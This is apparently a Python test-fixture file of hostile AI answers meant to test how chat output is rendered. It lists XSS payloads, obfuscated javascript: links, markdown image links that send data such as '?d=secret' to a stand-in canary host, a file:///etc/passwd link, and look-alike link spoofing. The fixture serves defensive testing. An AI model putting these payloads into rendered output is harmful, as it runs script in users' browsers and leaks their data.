"""Answers that a hostile model might write: each wants to run something, to load something, or to pretend something."""

#: Who would be told.
CANARY = "https://canary.example"

_RUN = "window.ran=1"

#: HTML that browsers run or load where it is taken for HTML.
RAW_HTML = [
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{CANARY}/raw.png'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='{CANARY}/frame'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='{CANARY}/object'></object><embed src='{CANARY}/embed'>",
    f"<link rel=stylesheet href='{CANARY}/style.css'>",
    f"<style>@import '{CANARY}/import.css'; body{{background:url({CANARY}/background)}}</style>",
    f"<base href='{CANARY}/'>",
    f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'>",
    f"<video poster='{CANARY}/poster'><source src=x onerror={_RUN}></video>",
    f"<audio src='{CANARY}/audio' autoplay onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action='{CANARY}/form'><button formaction='javascript:{_RUN}'>x</button></form>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<body onload={_RUN}>",
    f"<div style='background:url({CANARY}/div)'>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    "<img src='x' id=getElementById name=cookie><form id=body name=body><input name=innerHTML>",
    f"<a id=defaultView href='{CANARY}'></a><a id=Rendering></a>",
]

#: Addresses that are no places of the web, however they are written.
ADDRESSES = [
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](<java\nscript:{_RUN}>)",
    f"[x](\x01javascript:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](&#x6A;&#x61;vascript&colon;{_RUN})",
    f"[x](javascript&#58;{_RUN})",
    f"[x](javascript&Tab;:{_RUN})",
    f"[x](\\javascript:{_RUN})",
    f"[x](%6aavascript:{_RUN})",
    f"[x](javascript://{CANARY}/%0a{_RUN})",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    f"[x](data:image/svg+xml,<svg onload={_RUN}>)",
    f"[x](blob:{CANARY}/1)",
    "[x](file:///etc/passwd)",
    "[x](//canary.example/relative)",
    "[x](/v1/streams)",
    f"<javascript:{_RUN}>",
    f"<data:text/html,{_RUN}>",
    f"[x]\n\n[x]: javascript:{_RUN}",
    f'[x][y]\n\n[y]: <javascript:{_RUN}> "title"',
    f"[x](https://a.example \"' onmouseover={_RUN} '\")",
    f'[x](https://a.example/"onmouseover={_RUN})',
    f'https://a.example/"onmouseover={_RUN}',
    f"<https://a.example/'onclick='{_RUN}>",
    f"[a [b](javascript:{_RUN})](https://a.example)",
    f"[![x](javascript:{_RUN})](javascript:{_RUN})",
]

#: Pictures and the like, which would tell their server what the model wrote into the address.
PICTURES = [
    f"![x]({CANARY}/?d=secret)",
    f"![x](  {CANARY}/spaces  )",
    f"![x][i]\n\n[i]: {CANARY}/reference",
    f"![i]\n\n[i]: {CANARY}/shortcut 'title'",
    f"[![x]({CANARY}/inner)](https://a.example)",
    f"![![x]({CANARY}/deep)]({CANARY}/outer)",
    "![x](//canary.example/scheme)",
    "![x](/v1/streams?picture)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LnJhbj0xPg==)",
    f'!["onerror={_RUN} x="]({CANARY}/name)',
    f"![<img src=x onerror={_RUN}>]({CANARY}/html)",
    f"![x](javascript:{_RUN})",
]

#: Places where text is copied into attributes, and characters that look like others.
TRICKS = [
    f'```"onmouseover={_RUN}\n</code></pre><script>{_RUN}</script>\n```',
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f"```<img/src=x/onerror={_RUN}>\nx\n```",
    f"``<img src=x onerror={_RUN}>``",
    f"    <script>{_RUN}</script>",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<\u0000script>{_RUN}</script>",
    f"\u2028<img src=x onerror={_RUN}>\u2029",
    "[\u202egpj.example](https://a.example/\u202e)",
    "[https://bank.example](https://a.example/bank.example)",
    "[x](https://bank.example@a.example/)",
    "https://\u0430pple.example/",
    f"| <img src=x onerror={_RUN}> | [x](javascript:{_RUN}) |\n|---|---|\n| <svg onload={_RUN}> | `|` |",
    f"- <script>{_RUN}</script>\n  - ![x]({CANARY}/list)\n\n    > <iframe src={CANARY}/quote>",
    f"[__proto__]: {CANARY}/prototype\n\n[__proto__] ![constructor]\n\n[constructor]: {CANARY}/constructor",
    "\U0001f600<b>\U0001f469\u200d\U0001f4bb</b>\ud83d",
]

ALL = [*RAW_HTML, *ADDRESSES, *PICTURES, *TRICKS]
